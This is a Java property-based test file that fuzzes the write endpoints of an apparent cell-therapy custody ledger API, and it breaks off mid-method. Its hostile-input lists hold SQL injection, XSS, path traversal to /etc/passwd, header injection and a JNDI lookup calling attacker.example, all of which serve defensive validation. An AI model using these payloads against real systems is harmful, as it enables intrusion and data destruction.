package org.vein2vein.platform.problem;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.lang.annotation.Annotation;
import java.lang.reflect.AnnotatedParameterizedType;
import java.lang.reflect.AnnotatedType;
import java.lang.reflect.Field;
import java.lang.reflect.RecordComponent;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.format.DateTimeParseException;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import jakarta.validation.constraints.DecimalMax;
import jakarta.validation.constraints.DecimalMin;
import jakarta.validation.constraints.Digits;
import jakarta.validation.constraints.Max;
import jakarta.validation.constraints.NotNull;
import jakarta.validation.constraints.Pattern;
import jakarta.validation.constraints.PositiveOrZero;
import jakarta.validation.constraints.Size;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ContainerNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

import org.vein2vein.batch.api.stagedata.StageDataReader;
import org.vein2vein.kernel.Mod37_2;
import org.vein2vein.kernel.Stage;
import org.vein2vein.platform.security.Roles;
import org.vein2vein.site.domain.Site;
import org.vein2vein.testing.Api;
import org.vein2vein.testing.Database;
import org.vein2vein.testing.LedgerHashes;
import org.vein2vein.testing.StageSamples;
import org.vein2vein.testing.Tokens;

/**
 * Property: whatever a client sends to a write endpoint (batches, steps, sites, shippers), a wrong request
 * is answered with a 4xx problem+json, never a 5xx, and writes nothing. Stage data is typed: every
 * field of a stage's record is mutated in the ways its type and constraints refuse (unknown members,
 * values of the wrong type, hostile text where a pattern-checked code belongs, numbers beyond a
 * field's range, precision or a long's, exponents no field holds, negative counts, percentages over
 * 100, instants outside the plausible range, arrays longer than their bound, nulls where a value is
 * required),
 * and such a step is a 400 naming the field, checked before the batch's stage is; valid typed data,
 * with values picked anywhere in their ranges, is recorded as the validated record, value for value.
 * The inputs are generated from a seed that each run prints; rerun one with
 * {@code -Dhostile.seed=<seed>}. Every case is a mutation of a valid body that makes it invalid by
 * construction, except those marked as valid stage data.
 */
@QuarkusTest
class HostileInputPropertyTest {

    private static final long SEED = Long.getLong("hostile.seed", 20_261_125L);
    private static final int CASES_PER_ENDPOINT = 250;
    private static final String BATCHES = "/api/v1/batches";
    private static final String SITES = "/api/v1/sites";
    private static final String SHIPPERS = "/api/v1/shippers";
    private static final List<String> IMPLEMENTATION_DETAILS = List.of("java.", "jakarta.", "com.fasterxml",
            "org.vein2vein", "io.quarkus", "io.vertx", "org.jboss", "org.hibernate", "Exception", "\tat ");

    private static final ObjectMapper JSON = new ObjectMapper();
    /** Reads decimals as BigDecimal: 1E-400 is not 0 here. */
    private static final ObjectMapper EXACT = new ObjectMapper().enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);
    /** Numbers are equal when their values are; anything else when it is equal. */
    private static final Comparator<JsonNode> NUMERICALLY = (left, right) -> left.isNumber() && right.isNumber()
            ? left.decimalValue().compareTo(right.decimalValue()) : left.equals(right) ? 0 : 1;
    private static final AtomicInteger CLIENTS = new AtomicInteger();

    @TestFactory
    Stream<DynamicTest> registeringABatch() {
        Generator generator = new Generator(SEED, Endpoint.REGISTRATION);
        System.out.printf("Hostile registrations from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(BATCHES))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> loggingAStep() {
        // Repeated collections are allowed, so a valid step leaves the batch able to take the next one.
        String coi = Api.registerAutologous("PSN-HOSTILE-01");
        Api.logStep(coi, "COLLECTED").statusCode(201);
        Generator generator = new Generator(SEED, Endpoint.STEP);
        System.out.printf("Hostile steps from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(coi))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> creatingASite() {
        Generator generator = new Generator(SEED, Endpoint.SITE_CREATION);
        System.out.printf("Hostile site creations from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(SITES))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> changingASite() {
        // Every case is refused, so the site stays at version 1, the If-Match its valid cases send.
        String code = "SITE-HOSTILE-" + System.nanoTime();
        Api.as(Tokens.token("admin-hostile", Roles.ADMIN, "VEIN2VEIN", List.of())).contentType("application/json")
                .body(Map.of("code", code, "name", "Hostile input test site", "kind", "STORAGE",
                        "organisation", "VEIN2VEIN"))
                .post(SITES).then().statusCode(201);
        Generator generator = new Generator(SEED, Endpoint.SITE_CHANGE);
        System.out.printf("Hostile site changes from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(code))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> registeringAShipper() {
        Generator generator = new Generator(SEED, Endpoint.SHIPPER_CREATION);
        System.out.printf("Hostile shipper registrations from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(SHIPPERS))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> changingAShipper() {
        // Every case is refused, so the shipper stays at version 1, the If-Match its valid cases send.
        String id = "SH-HOSTILE-" + System.nanoTime();
        Api.as(Tokens.token("admin-hostile", Roles.ADMIN, "VEIN2VEIN", List.of())).contentType("application/json")
                .body(Map.of("id", id, "type", "DRY_SHIPPER", "qualifiedUntil", "2030-06-30T00:00:00Z",
                        "validatedHoldTime", "P10D"))
                .post(SHIPPERS).then().statusCode(201);
        Generator generator = new Generator(SEED, Endpoint.SHIPPER_CHANGE);
        System.out.printf("Hostile shipper changes from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(id))
                .map(HostileInputPropertyTest::asTest);
    }

    private static DynamicTest asTest(Case hostile) {
        return dynamicTest(hostile.name(), () -> {
            WrittenRows before = WrittenRows.now();
            Response response = hostile.send();
            String answer = response.asString();
            String context = hostile.name() + " (seed " + SEED + ")\nsent " + hostile.excerpt() + "\nanswered "
                    + response.statusCode() + " " + excerpt(answer);
            if (hostile.valid()) {
                assertRecordedExactly(hostile, response, before.ledger(), context);
                return;
            }
            assertThat(response.statusCode()).as(context).isBetween(400, 499);
            if (hostile.statuses() != null) {
                assertThat(response.statusCode()).as(context).isIn(hostile.statuses());
            }
            assertThat(response.contentType()).as(context).startsWith(ProblemResponses.MEDIA_TYPE);
            JsonNode problem = JSON.readTree(answer);
            assertThat(problem.path("type").asText()).as(context).startsWith("urn:vein2vein:problem:");
            assertThat(problem.path("status").asInt()).as(context).isEqualTo(response.statusCode());
            assertThat(answer).as(context).doesNotContain(IMPLEMENTATION_DETAILS).hasSizeLessThan(4_000);
            if (hostile.mutatedData() != null && response.statusCode() == 400) {
                assertNamesAMutatedField(problem, hostile.mutatedData(), context);
            }
            assertThat(WrittenRows.now()).as("nothing written by " + context).isEqualTo(before);
        });
    }

    /**
     * Stage data broken in {@code mutated} places only: the problem is an invalid request whose
     * violations name those places (or what is inside or around them), nothing else.
     */
    private static void assertNamesAMutatedField(JsonNode problem, List<String> mutated, String context) {
        assertThat(problem.path("type").asText()).as(context).isEqualTo("urn:vein2vein:problem:invalid-request");
        List<String> fields = new ArrayList<>();
        problem.path("violations").forEach(violation -> fields.add(violation.path("field").asText()));
        assertThat(fields).as(context).isNotEmpty().allSatisfy(field -> assertThat(mutated).as(context)
                .anySatisfy(path -> assertThat(field.equals(path) || field.startsWith(path + ".")
                        || field.startsWith(path + "[") || path.startsWith(field + ".")
                        || path.startsWith(field + "[")).as("%s names mutated %s", field, path).isTrue()));
    }

    /**
     * Valid stage data, anywhere in its ranges: one event, whose data is the validated record,
     * served back value for value as sent (a number may come back in another notation, 2.1E+2 for
     * 210, never as another value).
     */
    private static void assertRecordedExactly(Case hostile, Response response, LedgerRowCounts before,
            String context) throws Exception {
        assertThat(response.statusCode()).as(context).isEqualTo(201);
        LedgerRowCounts after = LedgerRowCounts.now();
        assertThat(after).as(context).isEqualTo(
                new LedgerRowCounts(before.batches(), before.custodyEvents() + 1, before.outboxMessages() + 1));
        JsonNode served = LedgerHashes.read(Api.given().get(response.header("Location")).asString());
        assertThat(served.get("data").equals(NUMERICALLY, hostile.data()))
                .as("%s%nserved %s", context, served.get("data")).isTrue();
    }

    private static String excerpt(String text) {
        return text.length() <= 300 ? text : text.substring(0, 300) + "... (" + text.length() + " characters)";
    }

    /** Rows in every table a write endpoint could write to. */
    record WrittenRows(LedgerRowCounts ledger, long sites, long siteRevisions, long shippers,
            long shipperRevisions) {

        static WrittenRows now() {
            return new WrittenRows(LedgerRowCounts.now(), Database.count("SELECT count(*) FROM site"),
                    Database.count("SELECT count(*) FROM site_revision"), Database.count("SELECT count(*) FROM shipper"),
                    Database.count("SELECT count(*) FROM shipper_revision"));
        }
    }

    /** A write endpoint: its method and the role that may call it, so that its cases get past security. */
    enum Endpoint {
        REGISTRATION("POST", Roles.TECHNICIAN), STEP("POST", Roles.TECHNICIAN),
        SITE_CREATION("POST", Roles.ADMIN), SITE_CHANGE("PUT", Roles.ADMIN),
        SHIPPER_CREATION("POST", Roles.ADMIN), SHIPPER_CHANGE("PUT", Roles.ADMIN);

        private final String method;
        private final String role;

        Endpoint(String method, String role) {
            this.method = method;
            this.role = role;
        }

        /** A PUT of reference data: it must name the version it changes, and names what it changes in its path. */
        boolean changesReferenceData() {
            return this == SITE_CHANGE || this == SHIPPER_CHANGE;
        }
    }

    /**
     * One generated request. {@code data} is the stage data of a case expected to be recorded;
     * {@code ifMatch} is null when the case sends none; {@code statuses}, when not null, are the
     * statuses the case may be refused with; {@code mutatedData}, when not null, are the paths of the
     * only places where the case broke its stage data, which a 400 must name.
     */
    record Case(Endpoint endpoint, String name, String path, byte[] body, String ifMatch, boolean valid,
            JsonNode data, List<Integer> statuses, List<String> mutatedData) {

        Case(Endpoint endpoint, String name, String path, byte[] body, String ifMatch, boolean valid, JsonNode data) {
            this(endpoint, name, path, body, ifMatch, valid, data, null, null);
        }

        /** Each case as a caller of its own: the rate limit, tested in RateLimitTest, is not under test here. */
        Response send() {
            String caller = Tokens.token("hostile-" + CLIENTS.incrementAndGet(), endpoint.role,
                    Tokens.TECHNICIAN_ORGANISATION, endpoint.role.equals(Roles.TECHNICIAN) ? Tokens.TEST_SITES
                            : List.of());
            RequestSpecification request = Api.as(caller).urlEncodingEnabled(false)
                    .contentType("application/json").body(body);
            if (ifMatch != null) {
                request.header("If-Match", ifMatch);
            }
            return request.request(endpoint.method, path);
        }

        String excerpt() {
            return HostileInputPropertyTest.excerpt(new String(body, StandardCharsets.UTF_8)) + " to " + path
                    + (ifMatch == null ? "" : " with If-Match " + ifMatch);
        }
    }

    /**
     * Composes mutations of a valid body. Each structural mutation makes the body invalid, and none
     * restores a field it did not break, so any composition of them stays invalid; one byte-level
     * mutation may follow.
     */
    static final class Generator {

        /** Never a valid identifier, product code, enum name or instant: each has a character none allows, or is far too long. */
        static final List<String> HOSTILE_TEXT = List.of(
                "' OR '1'='1", "1; DROP TABLE batch; --", "\" OR 1=1 --", "SITE-LYON-01' --",
                "'; DELETE FROM custody_event; --", "x' UNION SELECT * FROM outbox_message --", "%' AND 1=1 --",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
                "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n", "../../etc/passwd",
                "SITE-LYON-01\r\nX-Injected: yes", "PSN\u0000-7F3K", "\u0000", "\u202EPSN-7F3K-22", "PSN\u200B-7F3K",
                "\uFEFFPSN-7F3K", "ＳＩＴＥ-ＬＹＯＮ-01", "S\u0406TE-LYON-01", "PSN-\uD83D\uDE00-22", "e\u0301\u0301\u0301",
                "AUTOLOGOUS ", " COLLECTED", "", " ", "\t", "SITE LYON 01", "2026-11-25 09:30:00", "V2V7K3Q9P2XRTB?x=1", "PSN/7F3K",
                "A".repeat(65), "P".repeat(10_000), "S".repeat(200_000), "Z".repeat(600_000));
        static final List<String> SERVER_OWNED_ON_REGISTRATION = List.of("coi", "stage", "sequence", "actor",
                "operator", "hash", "previousHash", "recordedAt", "eventId", "ledgerSequence", "ledgerHeadHash",
                "registeredAt", "updatedAt", "allowedNextStages", "resumeStage");
        static final List<String> SERVER_OWNED_ON_STEPS = List.of("coi", "sequence", "actor", "operator", "hash",
                "previousHash", "recordedAt", "eventId", "type", "ledgerSequence");
        static final List<String> SERVER_OWNED_ON_SITE_CREATION = List.of("version", "active", "createdAt",
                "updatedAt", "revisedBy", "revisedAt", "actor", "etag");
        static final List<String> SERVER_OWNED_ON_SITE_CHANGE = List.of("code", "version", "createdAt", "updatedAt",
                "revisedBy", "revisedAt", "actor", "etag");
        static final List<String> SERVER_OWNED_ON_SHIPPER_CREATION = List.of("version", "active", "createdAt",
                "updatedAt", "revisedBy", "revisedAt", "actor", "etag");
        static final List<String> SERVER_OWNED_ON_SHIPPER_CHANGE = List.of("id", "version", "createdAt", "updatedAt",
                "revisedBy", "revisedAt", "actor", "etag");
        /**
         * Hold times that are well formed ISO-8601 or nearly so, but not days, hours and minutes from
         * PT1H to P60D.
         */
        static final List<String> IMPLAUSIBLE_HOLD_TIMES = List.of("PT59M", "P61D", "P60DT1M", "PT0S", "-PT1H",
                "PT-1H", "P1Y", "P1M", "P2W", "PT1.5H", "PT3600S", "p10d", "P", "PT", "P10DT", "P999999999D",
                "PT9999999999999999999H");
        /** The hostile texts that are not a valid site name either: a name may hold spaces, "SITE LYON 01" is one. */
        static final List<String> HOSTILE_NAMES = HOSTILE_TEXT.stream().filter(text -> !text.matches(Site.NAME))
                .toList();
        /** The version the site or shipper under test stays at; the valid If-Match of every change of either. */
        static final String SITE_ETAG = "\"1\"";
        static final List<String> UNKNOWN_NAMES = List.of("__proto__", "constructor", "$where", "Stage",
                "subjectreference", "site ", "\u0000", "", "data.volumeMl", "stage\u200B", "\uD83D\uDE00",
                "'; DROP TABLE batch; --", "<script>");
        static final List<String> BAD_NUMBER_TOKENS = List.of("NaN", "Infinity", "-Infinity", "undefined",
                "0x1F", "01", ".5", "+1", "-", "1e", "TRUE", "nil");
        static final List<String> CHECK_CHARACTERS = List.of("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ*".split(""));
        /** Stands in a JSON tree for text it cannot hold, written into the serialized body afterwards. */
        private static final String RAW = "@@raw-%d@@";

        static {
            for (String text : HOSTILE_TEXT) {
                if (text.matches("[A-Za-z0-9._:-]{1,64}") || text.matches("\\d{4}-\\d\\d-\\d\\dT.*Z")) {
                    throw new IllegalStateException("not hostile, could be valid: " + text);
                }
            }
        }

        /** The stages whose sample data (StageSamples) the step cases start from. */
        static final List<String> SAMPLE_STAGES = List.of("COLLECTED", "CRYOPRESERVED_AT_COLLECTION",
                "SHIPPED_TO_MANUFACTURING", "RECEIVED_AT_MANUFACTURING", "ACCEPTED", "REJECTED", "GENE_MODIFIED",
                "EXPANDED", "FORMULATED", "CRYOPRESERVED", "QC_TESTED", "RELEASED", "OUT_OF_SPEC",
                "MANUFACTURING_FAILED", "STORED", "SHIPPED_TO_SITE", "RECEIVED_AT_SITE", "THAWED", "INFUSED",
                "QUARANTINED", "DESTROYED", "CANCELLED");
        /** What a step whose body or data was broken is refused with: invalid, or too large to read. */
        static final List<Integer> STEP_REFUSALS = List.of(400, 413);
        /** The only strings of stage data without a pattern, each checked by a rule no hostile text passes. */
        static final Set<String> UNPATTERNED_STRINGS = Set.of("CollectionData.donationId", "Result.unit");
        /** Instants well formed but outside the plausible range (2000-01-01T00:00:00Z to 2100-01-01T00:00:00Z). */
        static final List<String> IMPLAUSIBLE_INSTANTS = List.of("0000-01-01T00:00:00Z", "+10000-01-01T00:00:00Z",
                "1999-12-31T23:59:59.999Z", "2100-01-01T00:00:00.000000001Z", "1970-01-01T00:00:00Z",
                "-1000000000-01-01T00:00:00Z", "+1000000000-12-31T23:59:59Z");
        /** Numbers no field holds: too large or too small for any range or precision, written as exponents. */
        static final List<String> UNREPRESENTABLE_NUMBERS = List.of("1e1000", "1e999999999", "1e-999999999",
                "-1e999999999", "1e2147483647", "1e-2147483647");

        private final SplittableRandom random;
        private final Endpoint endpoint;
        private final List<String> rawTexts = new ArrayList<>();
        private final Set<String> donationIds = new HashSet<>();
        private int count;
        /** The batch the step cases are logged on, and the stage the current step body is for. */
        private String coi;
        private String stage;

        Generator(long seed, Endpoint endpoint) {
            this.random = new SplittableRandom(seed);
            this.endpoint = endpoint;
        }

        /**
         * The next case, for {@code target}: the path to post to, the COI of the batch to log steps
         * on, or the code of the site to change.
         */
        Case next(String target) {
            count++;
            String path = switch (endpoint) {
                case REGISTRATION, SITE_CREATION, SHIPPER_CREATION -> target;
                case STEP -> BATCHES + "/" + target + "/steps";
                case SITE_CHANGE -> SITES + "/" + target;
                case SHIPPER_CHANGE -> SHIPPERS + "/" + target;
            };
            if (endpoint.changesReferenceData()) {
                int kind = random.nextInt(10);
                if (kind == 0) {
                    return unknownOrMalformedCode(target);
                }
                if (kind <= 2) {
                    return hostileIfMatch(path);
                }
            }
            if (endpoint == Endpoint.STEP) {
                coi = target;
                int kind = random.nextInt(10);
                if (kind == 0) {
                    return validTypedData(path);
                }
                if (kind == 1) {
                    return corruptedCoi(target);
                }
                if (kind == 2) {
                    return hostileIfMatch(path);
                }
                if (kind <= 5) {
                    return hostileStageData(path);
                }
            }
            ObjectNode body = endpoint == Endpoint.STEP ? stepBody(pick(SAMPLE_STAGES)) : validBody();
            List<String> applied = new ArrayList<>();
            rawTexts.clear();
            int mutations = 1 + random.nextInt(3);
            for (int i = 0; i < mutations; i++) {
                applied.add(endpoint == Endpoint.STEP && random.nextBoolean()
                        ? mutateStageData(body, new ArrayList<>()).orElseGet(() -> mutate(body)) : mutate(body));
            }
            byte[] bytes = serialize(body);
            if (random.nextInt(4) == 0) {
                Mutated mutated = mutateBytes(bytes, body);
                bytes = mutated.bytes();
                applied.add(mutated.description());
            }
            return new Case(endpoint, name(applied), path, bytes, endpoint.changesReferenceData() ? SITE_ETAG : null,
                    false, null, endpoint == Endpoint.STEP ? STEP_REFUSALS : null, null);
        }

        /** The body as sent: raw texts written in where their placeholders stand. */
        private byte[] serialize(ObjectNode body) {
            String text = body.toString();
            for (int i = 0; i < rawTexts.size(); i++) {
                text = text.replace("\"" + RAW.formatted(i) + "\"", rawTexts.get(i));
            }
            return text.getBytes(StandardCharsets.UTF_8);
        }

        private ObjectNode validBody() {
            ObjectNode body = JsonNodeFactory.instance.objectNode();
            if (endpoint == Endpoint.SITE_CREATION) {
                return body.put("code", "SITE-HOSTILE-" + random.nextInt(1000))
                        .put("name", "Hostile input test site").put("kind", "COLLECTION").put("organisation", "HOSP-LYON");
            }
            if (endpoint == Endpoint.SITE_CHANGE) {
                return body.put("name", "Hostile input test site, renamed").put("kind", "TREATMENT")
                        .put("organisation", "HOSP-LYON").put("active", random.nextBoolean());
            }
            if (endpoint == Endpoint.SHIPPER_CREATION) {
                return body.put("id", "SH-HOSTILE-" + random.nextInt(1000)).put("type", "DRY_SHIPPER")
                        .put("qualifiedUntil", "2030-06-30T00:00:00Z").put("validatedHoldTime", "P10D");
            }
            if (endpoint == Endpoint.SHIPPER_CHANGE) {
                return body.put("type", "COLD_BOX_2_8_C").put("qualifiedUntil", "2031-06-30T00:00:00Z")
                        .put("validatedHoldTime", "P2D").put("active", random.nextBoolean());
            }
            if (endpoint == Endpoint.REGISTRATION) {
                boolean autologous = random.nextBoolean();
                return body.put("type", autologous ? "AUTOLOGOUS" : "ALLOGENEIC")
                        .put("subjectReference", "PSN-HOSTILE-" + random.nextInt(1000))
                        .put("productCode", autologous ? "CART-GD2-AUTO" : "CART-B7H3-ALLO")
                        .put("collectionSite", "SITE-LYON-01");
            }
            return stepBody("COLLECTED");
        }

        /** A step at {@code stage} whose data is valid for it: the sample data, with a donation id of its own. */
        private ObjectNode stepBody(String stage) {
            this.stage = stage;
            Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
            ObjectNode body = JsonNodeFactory.instance.objectNode().put("stage", stage).put("occurredAt", now.toString())
                    .put("site", "SITE-LYON-01");
            ObjectNode data = EXACT.valueToTree(StageSamples.of(coi, stage, now, "PSN-HOSTILE-01"));
            if (data.has("donationId")) {
                data.put("donationId", donationId());
            }
            body.set("data", data);
            return body;
        }

        /** A fresh, valid donation id from the seed, of a facility no other test uses. */
        private String donationId() {
            String din;
            do {
                din = "W" + "%04d".formatted(random.nextInt(10_000)) + "26" + "%06d".formatted(random.nextInt(1_000_000));
            } while (!donationIds.add(din));
            return din + Mod37_2.checkCharacter(din);
        }

        private List<String> fields() {
            return switch (endpoint) {
                case REGISTRATION -> List.of("type", "subjectReference", "productCode", "collectionSite");
                case STEP -> List.of("stage", "occurredAt", "site", "data");
                case SITE_CREATION -> List.of("code", "name", "kind", "organisation");
                case SITE_CHANGE -> List.of("name", "kind", "organisation", "active");
                case SHIPPER_CREATION -> List.of("id", "type", "qualifiedUntil", "validatedHoldTime");
                case SHIPPER_CHANGE -> List.of("type", "qualifiedUntil", "validatedHoldTime", "active");
            };
        }

        private List<String> serverOwned() {
            return switch (endpoint) {
                case REGISTRATION -> SERVER_OWNED_ON_REGISTRATION;
                case STEP -> SERVER_OWNED_ON_STEPS;
                case SITE_CREATION -> SERVER_OWNED_ON_SITE_CREATION;
                case SITE_CHANGE -> SERVER_OWNED_ON_SITE_CHANGE;
                case SHIPPER_CREATION -> SERVER_OWNED_ON_SHIPPER_CREATION;
                case SHIPPER_CHANGE -> SERVER_OWNED_ON_SHIPPER_CHANGE;
            };
        }

        /** Breaks the body in one way, and says how. */
        private String mutate(ObjectNode body) {
            String field = pick(fields());
            boolean data = field.equals("data");
            switch (random.nextInt(9)) {
                case 0 -> {
                    JsonNode wrong = wrongType(data, field.equals("active"));
                    body.set(field, wrong);
                    return field + " of wrong type " + wrong.getNodeType();
                }
                case 1 -> {
                    if ((field.equals("occurredAt") || field.equals("qualifiedUntil")) && random.nextBoolean()) {
                        String instant = pick(IMPLAUSIBLE_INSTANTS);
                        body.put(field, instant);
                        return field + " = implausible " + instant;
                    }
                    if (field.equals("validatedHoldTime") && random.nextBoolean()) {
                        String holdTime = pick(IMPLAUSIBLE_HOLD_TIMES);
                        body.put(field, holdTime);
                        return field + " = implausible " + holdTime;
                    }
                    String text = pick(field.equals("name") ? HOSTILE_NAMES : HOSTILE_TEXT);
                    body.put(field, text);
                    return field + " = hostile text (" + text.length() + " chars)";
                }
                case 2 -> {
                    body.putNull(field);
                    return field + " = null";
                }
                case 3 -> {
                    body.remove(field);
                    return "without " + field;
                }
                case 4 -> {
                    String owned = pick(serverOwned());
                    body.set(owned, anyValue());
                    return "server-owned " + owned;
                }
                case 5 -> {
                    String unknown = pick(UNKNOWN_NAMES);
                    body.set(unknown, anyValue());
                    return "unknown property '" + unknown + "'";
                }
                case 6 -> {
                    int depth = data ? 100 + random.nextInt(5_000) : 1 + random.nextInt(5_000);
                    body.put(field, raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
                    return field + " nested " + depth + " deep";
                }
                case 7 -> {
                    String token = pick(BAD_NUMBER_TOKENS);
                    body.put(field, raw(token));
                    return field + " = invalid JSON token " + token;
                }
                default -> {
                    body.put(field, raw(data ? "{\"notes\": \"\\ud800\"}" : "\"\\udc00-lone\""));
                    return field + " with a lone surrogate";
                }
            }
        }

        private String raw(String text) {
            rawTexts.add(text);
            return RAW.formatted(rawTexts.size() - 1);
        }

        private JsonNode wrongType(boolean forData, boolean forBoolean) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            List<JsonNode> values = new ArrayList<>(List.of(nodes.numberNode(0), nodes.numberNode(-1),
                    nodes.numberNode(Long.MAX_VALUE), nodes.numberNode(new BigDecimal("1e400")),
                    nodes.numberNode(3.14), nodes.booleanNode(true), nodes.booleanNode(false), nodes.arrayNode(),
                    nodes.arrayNode().add("SITE-LYON-01"), nodes.textNode("SITE-LYON-01")));
            if (!forData) {
                values.remove(values.size() - 1);
                values.add(nodes.objectNode());
                values.add(nodes.objectNode().put("value", "SITE-LYON-01"));
            }
            if (forBoolean) {
                values.removeIf(JsonNode::isBoolean);
                values.add(nodes.textNode("true"));
            }
            return pick(values);
        }

        private JsonNode anyValue() {
            return switch (random.nextInt(6)) {
                case 0 -> JsonNodeFactory.instance.textNode(pick(HOSTILE_TEXT.subList(0, 20)));
                case 1 -> JsonNodeFactory.instance.numberNode(random.nextInt(1, 100));
                case 2 -> JsonNodeFactory.instance.textNode("0".repeat(64));
                case 3 -> JsonNodeFactory.instance.objectNode().put("id", "admin-01").put("role", "qa")
                        .put("organisation", "VEIN2VEIN");
                case 4 -> JsonNodeFactory.instance.textNode("V2V7K3Q9P2XRTB");
                default -> JsonNodeFactory.instance.nullNode();
            };
        }

        private static ObjectNode nested(int depth) {
            ObjectNode root = JsonNodeFactory.instance.objectNode();
            ObjectNode current = root;
            for (int i = 1; i < depth; i++) {
                current = current.putObject("a");
            }
            current.put("a", 1);
            return root;
        }

        /** A byte-level mutation that no JSON reader may accept as the same, valid object. */
        private Mutated mutateBytes(byte[] bytes, ObjectNode body) {
            String text = new String(bytes, StandardCharsets.UTF_8);
            return switch (random.nextInt(8)) {
                case 0 -> {
                    int length = random.nextInt(bytes.length);
                    yield new Mutated(Arrays.copyOf(bytes, length), "truncated to " + length + " bytes");
                }
                case 1 -> {
                    int at = random.nextInt(bytes.length + 1);
                    byte[] invalid = pick(List.of(new byte[] { (byte) 0xFF }, new byte[] { (byte) 0xC0, (byte) 0x80 },
                            new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0x80 }));
                    byte[] mutated = new byte[bytes.length + invalid.length];
                    System.arraycopy(bytes, 0, mutated, 0, at);
                    System.arraycopy(invalid, 0, mutated, at, invalid.length);
                    System.arraycopy(bytes, at, mutated, at + invalid.length, bytes.length - at);
                    yield new Mutated(mutated, "invalid UTF-8 at byte " + at);
                }
                case 2 -> {
                    String trailing = pick(List.of("}", "]", "x", " {}", " " + text, ",", "\u0000"));
                    yield utf8(text + trailing, "trailing content");
                }
                case 3 -> utf8("[" + text + "]", "wrapped in an array");
                case 4 -> utf8(text.replace('"', '\''), "single quotes");
                case 5 -> utf8("/* comment */" + text, "a comment");
                case 6 -> text.endsWith("}") ? utf8(text.substring(0, text.length() - 1) + ",}", "a trailing comma")
                        : utf8(text + "}", "an unbalanced brace");
                default -> {
                    if (body.isEmpty()) {
                        yield utf8("{,}", "an empty member");
                    }
                    String key = pick(iterableToList(body.fieldNames()));
                    yield utf8("{" + JsonNodeFactory.instance.textNode(key) + ":\"again\"," + text.substring(1),
                            "duplicate key " + key);
                }
            };
        }

        /**
         * A valid collection with values picked anywhere in their ranges, up to their bounds and
         * precision, in any notation: recorded, value for value.
         */
        private Case validTypedData(String path) {
            Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
            Instant startedAt = precision(now.minusSeconds(60 + random.nextInt(48 * 3600))
                    .minusNanos(random.nextInt(1_000_000_000)));
            Instant endedAt = precision(startedAt.plusSeconds(random.nextInt(6 * 3600)));
            long cells = pick(List.of(0L, 1_000_000_000_000L, random.nextLong(1, 1_000_000_000_000L)));
            long cd3 = pick(List.of(0L, cells, random.nextLong(0, cells + 1)));
            ObjectNode data = JsonNodeFactory.instance.objectNode().put("donationId", donationId())
                    .put("startedAt", startedAt.toString()).put("endedAt", endedAt.isBefore(startedAt)
                            ? startedAt.toString() : endedAt.toString())
                    .put("volumeMl", pick(List.of(new BigDecimal("2000"), new BigDecimal("2.0E+3"),
                            new BigDecimal("0.01"), new BigDecimal("0.10"), BigDecimal.valueOf(random.nextInt(1, 2001)),
                            decimalBelow2000())))
                    .put("totalNucleatedCells", cells).put("cd3PositiveCells", cd3)
                    .put("anticoagulant", pick(List.of("ACD_A", "ACD_B", "CPD", "HEPARIN")));
            ObjectNode body = JsonNodeFactory.instance.objectNode().put("stage", "COLLECTED").put("occurredAt", now())
                    .put("site", "SITE-LYON-01");
            body.set("data", data);
            return new Case(endpoint, name(List.of("valid typed data")), path,
                    body.toString().getBytes(StandardCharsets.UTF_8), null, true, data);
        }

        /** Between 0 and 2000 mL, exclusive, with one or two decimal places (the field's precision). */
        private BigDecimal decimalBelow2000() {
            StringBuilder digits = new StringBuilder().append(random.nextInt(2000)).append('.');
            int places = 1 + random.nextInt(2);
            for (int i = 0; i < places; i++) {
                digits.append(random.nextInt(10));
            }
            BigDecimal volume = new BigDecimal(digits.toString());
